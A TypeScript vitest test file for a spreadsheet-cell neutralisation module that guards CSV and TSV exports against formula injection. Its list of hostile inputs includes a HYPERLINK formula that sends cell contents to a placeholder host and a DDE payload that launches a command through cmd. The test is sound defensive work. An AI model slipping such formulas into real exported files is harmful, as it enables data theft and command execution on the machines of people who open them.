// Spreadsheet cells: hostile strings come out as text (a leading '), numbers stay numbers, CSV quoting holds.
import { describe, expect, it } from 'vitest';
import { type Cell, csvCell, neutralizeCell, tsvCell } from './spreadsheet-cell.ts';

/** What a spreadsheet would evaluate: a cell whose text (after CSV unquoting) starts like a formula. */
const startsFormula = (text: string) => /^(?:[\t\r\n]|\s*[=+\-@])/.test(text);

/** One CSV field back to its text (the field is whole: no separators outside quotes). */
function unquote(field: string): string {
  if (!field.startsWith('"')) {
    expect(field).not.toMatch(/[",\r\n]/);
    return field;
  }
  expect(field.endsWith('"')).toBe(true);
  const inner = field.slice(1, -1);
  expect(inner.replace(/""/g, '')).not.toContain('"');
  return inner.replace(/""/g, '"');
}

const hostile = [
  '=HYPERLINK("http://example.invalid/?"&A1,"click")',
  '=1+1',
  '+1+1',
  "-2+3+cmd|' /C calc'!A0",
  '@SUM(A1:A9)',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  '  =1+1',
  ' \t@x',
  '=a,b',
  '-0.5',
  '-rf.jpg',
];

describe('spreadsheet cells', () => {
  it('prefixes every string that could start a formula with a quote, and only those', () => {
    for (const s of hostile) {
      expect(neutralizeCell(s)).toBe(`'${s}`);
      expect(startsFormula(unquote(csvCell(s)))).toBe(false);
      expect(startsFormula(tsvCell(s))).toBe(false);
    }
    for (const s of ['sweet pea', 'a=b', 'x-1', 'mail@example.invalid', '0.5', '', 'Löwenzahn 🌼'])
      expect(neutralizeCell(s)).toBe(s);
  });

  it('writes numbers as numbers, negative ones included; null and undefined are empty', () => {
    const cells: [Cell, string][] = [
      [-0.5, '-0.5'],
      [1e-7, '1e-7'],
      [-3, '-3'],
      [0, '0'],
      [Number.NaN, 'NaN'],
      [null, ''],
      [undefined, ''],
    ];
    for (const [v, want] of cells) {
      expect(csvCell(v)).toBe(want);
      expect(tsvCell(v)).toBe(want);
    }
  });

  it('quotes CSV fields holding commas, quotes or line breaks, after neutralising', () => {
    expect(csvCell('a, "b"')).toBe('"a, ""b"""');
    expect(csvCell('=a,b')).toBe('"\'=a,b"');
    expect(csvCell('=HYPERLINK("x")')).toBe('"\'=HYPERLINK(""x"")"');
    expect(csvCell('line\nbreak')).toBe('"line\nbreak"');
    expect(csvCell('\n=1')).toBe('"\'\n=1"');
    for (const s of hostile) expect(unquote(csvCell(s))).toBe(`'${s}`);
  });

  it('flattens tabs and line breaks in TSV, then neutralises what that leaves', () => {
    expect(tsvCell('a\tb\r\nc')).toBe('a b c');
    expect(tsvCell('\t=1+1')).toBe("' =1+1");
    expect(tsvCell('=1\t2')).toBe("'=1 2");
    for (const s of hostile) expect(tsvCell(s)).not.toMatch(/[\t\r\n]/);
  });
});
